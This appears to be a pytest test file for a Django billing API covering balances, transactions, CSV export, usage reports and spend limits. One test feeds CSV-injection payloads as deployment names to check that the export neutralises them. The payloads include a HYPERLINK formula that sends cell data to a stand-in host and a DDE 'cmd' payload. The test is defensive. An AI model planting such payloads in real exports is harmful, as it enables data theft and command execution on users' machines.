from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from django.test import Client
from django.utils import timezone

from billing.holds import hold_open
from billing.metering import usage_charge, usage_meter_start
from billing.models import BillingProfile, LedgerAccount, Service
from billing.selectors import balance_of
from tests.support.billing import fund, ledger_snapshot
from tests.support.personas import Persona

USD = 1_000_000


def test_balance_shows_available_held_and_settings(client: Client, alice: Persona) -> None:
    fund(alice.org, 10 * USD)
    hold_open(org=alice.org, amount_micros=1_500_000, idempotency_key="h", description="cold start")
    body = client.get("/api/v1/billing/balance", **alice.auth).json()
    assert (body["balance_usd"], body["available_usd"], body["held_usd"]) == (10.0, 8.5, 1.5)
    assert body["auto_refill"] == {
        "enabled": False, "threshold_usd": 10.0, "amount_usd": 50.0, "payment_method": None, "disabled_reason": None,
    }  # fmt: skip
    assert body["grace_ends_at"] is None and body["daily_spend_limit_usd"] is None


def test_amounts_are_exact_to_the_micro_dollar(client: Client, alice: Persona) -> None:
    fund(alice.org, 1_234_567)
    assert client.get("/api/v1/billing/balance", **alice.auth).json()["available_usd"] == 1.234567


def test_transactions_paginate_and_filter(client: Client, alice: Persona) -> None:
    for n in range(5):
        fund(alice.org, (n + 1) * USD, key=f"t{n}")
    hold_open(org=alice.org, amount_micros=USD, idempotency_key="h", description="cold start")
    first = client.get("/api/v1/billing/transactions?limit=4", **alice.auth).json()
    assert [t["kind"] for t in first["data"]] == ["hold", "topup", "topup", "topup"]
    assert first["data"][0]["amount_usd"] == -1.0 and first["data"][0]["balance_usd"] == 14.0
    assert first["has_more"] is True
    second = client.get(f"/api/v1/billing/transactions?limit=4&before={first['next_before']}", **alice.auth).json()
    assert [t["amount_usd"] for t in second["data"]] == [2.0, 1.0] and second["has_more"] is False
    topups = client.get("/api/v1/billing/transactions?kind=topup", **alice.auth).json()["data"]
    assert len(topups) == 5
    tomorrow = (timezone.now() + timedelta(days=1)).date().isoformat()
    assert client.get(f"/api/v1/billing/transactions?since={tomorrow}", **alice.auth).json()["data"] == []


@pytest.mark.parametrize(
    ("query", "param"),
    [
        ("kind=gift", "kind"),
        ("limit=0", "limit"),
        ("limit=500", "limit"),
    ],
)
def test_bad_transaction_queries_are_400(client: Client, alice: Persona, query: str, param: str) -> None:
    response = client.get(f"/api/v1/billing/transactions?{query}", **alice.auth)
    assert response.status_code == 400 and response.json()["error"]["param"] == param


def test_csv_download(client: Client, alice: Persona) -> None:
    fund(alice.org, 25 * USD, key="a")
    response = client.get("/api/v1/billing/transactions.csv", **alice.auth)
    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]
    assert rows[0] == ["id", "created_at", "kind", "service", "description", "amount_usd", "balance_usd"]
    assert rows[1][2:] == ["topup", "", "test funds", "25.000000", "25.000000"]


@pytest.mark.parametrize("name", ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3",
                                  "@SUM(1+1)", "\tdata", "\rdata"])  # fmt: skip
def test_csv_cells_a_user_named_never_start_a_formula(client: Client, alice: Persona, name: str) -> None:
    """OWASP's CSV injection rule: a member's deployment name must not run in the owner's spreadsheet."""
    fund(alice.org, 10 * USD)
    now = timezone.now()
    meter = usage_meter_start(org=alice.org, meter_key="m", service=Service.MODEL, description=name,
                              hourly_price_micros=USD, started_at=now - timedelta(hours=1))  # fmt: skip
    usage_charge(meter, meter.started_at, now)
    response = client.get("/api/v1/billing/transactions.csv", **alice.auth)
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))  # type: ignore[attr-defined]
    usage = next(row for row in rows[1:] if row[2] == "usage")
    assert usage[4].startswith("'") and name in usage[4]
    assert usage[5] == "-1.000000"  # amounts the platform writes stay numbers


def test_usage_report(client: Client, alice: Persona) -> None:
    fund(alice.org, 100 * USD)
    now = timezone.now()
    for key, service, price in (
        ("a", Service.MODEL, 2 * USD),
        ("b", Service.POD, 1 * USD),
        ("c", Service.STORAGE, USD),
    ):
        meter = usage_meter_start(
            org=alice.org, meter_key=key, service=service, description=key, hourly_price_micros=price,
            started_at=now - timedelta(hours=1),
        )  # fmt: skip
        usage_charge(meter, meter.started_at, now)
    today = now.date().isoformat()
    body = client.get(f"/api/v1/billing/usage?start={today}&end={today}", **alice.auth).json()
    assert body["total_usd"] == 4.0 and body["gpu_hours"] == 2.0  # storage is not GPU time
    assert body["average_cost_per_gpu_hour_usd"] == 2.0
    assert body["by_service"] == {"model": 2.0, "pod": 1.0, "storage": 1.0}
    assert body["by_day"] == {today: 4.0}
    described = client.get("/api/v1/billing/transactions?kind=usage", **alice.auth).json()["data"]
    assert {t["description"] for t in described} == {"a (1 h 00 min)", "b (1 h 00 min)", "c (1 h 00 min)"}


def test_spend_limit_and_bad_values(client: Client, alice: Persona, bob: Persona) -> None:
    ok = client.patch(
        "/api/v1/billing/spend-limit", data={"daily_limit_usd": 20}, content_type="application/json", **alice.auth
    )
    assert ok.status_code == 200 and ok.json()["daily_spend_limit_usd"] == 20.0
    for bad in (-1, 0, 0.0000001):
        response = client.patch(
            "/api/v1/billing/spend-limit", data={"daily_limit_usd": bad}, content_type="application/json", **alice.auth
        )
        assert response.status_code == 400
    # *_usd fields are numbers (issue 14): a string is refused as the description says, before any check.
    text = client.patch(
        "/api/v1/billing/spend-limit", data={"daily_limit_usd": "20"}, content_type="application/json", **alice.auth
    )
    assert text.status_code == 422 and text.json()["error"]["param"] == "daily_limit_usd"
    assert (
        text.json()["error"]["message"]
        == "daily_limit_usd: Value error, must be a number of US dollars, e.g. 25 or 12.50"
    )
    denied = client.patch(
        "/api/v1/billing/spend-limit", data={"daily_limit_usd": None}, content_type="application/json", **bob.auth
    )
    assert denied.status_code == 403
    assert client.get("/api/v1/billing/balance", **alice.auth).json()["daily_spend_limit_usd"] == 20.0


def test_another_orgs_balance_is_not_visible(client: Client, alice: Persona, charlie: Persona) -> None:
    fund(alice.org, 10 * USD)
    assert client.get("/api/v1/billing/balance", **charlie.auth).json()["balance_usd"] == 0.0
    assert client.get("/api/v1/billing/transactions", **charlie.auth).json()["data"] == []


def test_grant_credit_command(alice: Persona) -> None:
    out = io.StringIO()
    call_command("grant_credit", "alice@example.com", "12.50", "--reason", "Welcome credit", stdout=out)
    personal = alice.user.memberships.get(org__is_personal=True).org
    assert balance_of(personal).available_micros == 12_500_000
    call_command("grant_credit", alice.org.pk, "5", "--reason", "Support goodwill", stdout=out)
    assert balance_of(alice.org).available_micros == 5 * USD
    before = ledger_snapshot()
    for args in (["nobody@example.com", "5", "--reason", "x"], [alice.org.pk, "abc", "--reason", "x"],
                 [alice.org.pk, "5", "--reason", "  "]):  # fmt: skip
        with pytest.raises(CommandError):
            call_command("grant_credit", *args, stdout=io.StringIO())
    assert ledger_snapshot() == before
    call_command("ledger_check", stdout=out)
    assert "Ledger OK" in out.getvalue()


def test_create_user_with_credit(client: Client, db: None) -> None:
    out = io.StringIO()
    call_command("create_user", "rich@example.com", "--credit", "100", "--api-key", "k", stdout=out)
    key = out.getvalue().strip().splitlines()[-1]
    assert client.get("/api/v1/billing/balance", HTTP_AUTHORIZATION=f"Bearer {key}").json()["available_usd"] == 100.0


def test_ledger_check_finds_a_tampered_cache(alice: Persona) -> None:

    fund(alice.org, 5 * USD)
    LedgerAccount.objects.filter(org=alice.org, kind="available").update(balance_micros=6 * USD)
    err = io.StringIO()
    with pytest.raises(CommandError, match="2 ledger violation"):
        call_command("ledger_check", stdout=io.StringIO(), stderr=err)
    assert "caches 6000000 but its entries sum to 5000000" in err.getvalue()
    assert "its latest entry left 5000000, the cache says 6000000" in err.getvalue()


def test_billing_page(client: Client, alice: Persona, settings: Any) -> None:
    settings.STRIPE_SECRET_KEY = ""
    fund(alice.org, 42 * USD)
    client.force_login(alice.user)
    client.post("/organization/switch", {"org_id": alice.org.pk})
    page = client.get("/billing/").content.decode()
    assert "$42.00" in page and "Transaction history" in page and "Card payments are not set up" in page
    more = client.get("/billing/transactions?before=999999", HTTP_HX_REQUEST="true").content.decode()
    assert "<html" not in more and "test funds" in more


def test_page_add_funds_bad_amount_shows_error(client: Client, alice: Persona, settings: Any) -> None:
    settings.STRIPE_SECRET_KEY = "sk_test_unused"
    client.force_login(alice.user)
    before = ledger_snapshot()
    response = client.post("/billing/add-funds", {"amount_usd": "-5"})
    html = response.content.decode()
    assert response.status_code == 400  # shown inline, next to the form, with what was typed
    assert 'id="topup-error" role="alert">Top-ups are between $5.00 and $10000.00.<' in html
    assert 'value="-5" aria-invalid="true"' in html
    assert ledger_snapshot() == before


def test_page_spend_limit_refusal_is_inline_and_changes_nothing(client: Client, alice: Persona) -> None:
    client.force_login(alice.user)
    client.post("/organization/switch", {"org_id": alice.org.pk})
    response = client.post("/billing/spend-limit", {"daily_limit_usd": "lots"})
    assert response.status_code == 400 and 'id="limit-error" role="alert">' in response.content.decode()
    assert 'value="lots" placeholder="none" aria-invalid="true"' in response.content.decode()
    assert BillingProfile.objects.get(org=alice.org).daily_spend_limit_micros is None
    saved = client.post("/billing/spend-limit", {"daily_limit_usd": "20"}, follow=True)
    assert "Daily spend limit saved." in saved.content.decode()
    assert BillingProfile.objects.get(org=alice.org).daily_spend_limit_micros == 20 * USD


def test_usage_fills_a_missing_bound_from_the_given_one(client: Client, alice: Persona) -> None:
    """Every range the description admits is answered, and the answer says which days it covers: a
    missing bound follows the given one (the first of the end's month; today after a start), a
    report stops 366 days after its start, and an end before the start is a report of no days."""
    long_ago = client.get("/api/v1/billing/usage?start=2000-01-01", **alice.auth)
    assert long_ago.status_code == 200, long_ago.content
    assert (long_ago.json()["start"], long_ago.json()["end"]) == ("2000-01-01", "2001-01-01")
    past_end = client.get("/api/v1/billing/usage?end=2001-03-15", **alice.auth)
    assert past_end.status_code == 200, past_end.content
    assert (past_end.json()["start"], past_end.json()["end"]) == ("2001-03-01", "2001-03-15")
    assert len(past_end.json()["by_day"]) == 15
    decade = client.get("/api/v1/billing/usage?start=2001-01-01&end=2010-12-31", **alice.auth).json()
    assert (decade["start"], decade["end"], len(decade["by_day"])) == ("2001-01-01", "2002-01-02", 367)
    swapped = client.get("/api/v1/billing/usage?start=2001-03-15&end=2001-03-01", **alice.auth)
    assert swapped.status_code == 200, swapped.content
    assert swapped.json()["by_day"] == {} and swapped.json()["total_usd"] == 0


def test_transactions_until_before_since_match_nothing(client: Client, alice: Persona) -> None:
    fund(alice.org, 5 * USD)
    today = timezone.now().date()
    both = f"since={today.isoformat()}&until={(today - timedelta(days=1)).isoformat()}"
    inverted = client.get(f"/api/v1/billing/transactions?{both}", **alice.auth)
    assert inverted.status_code == 200 and inverted.json()["data"] == [], inverted.content
    same_day = client.get(f"/api/v1/billing/transactions?since={today}&until={today}", **alice.auth)
    assert len(same_day.json()["data"]) == 1
    download = client.get(f"/api/v1/billing/transactions.csv?{both}", **alice.auth)
    rows = b"".join(download.streaming_content).decode().strip().splitlines()  # type: ignore[attr-defined]
    assert download.status_code == 200 and len(rows) == 1  # the header only
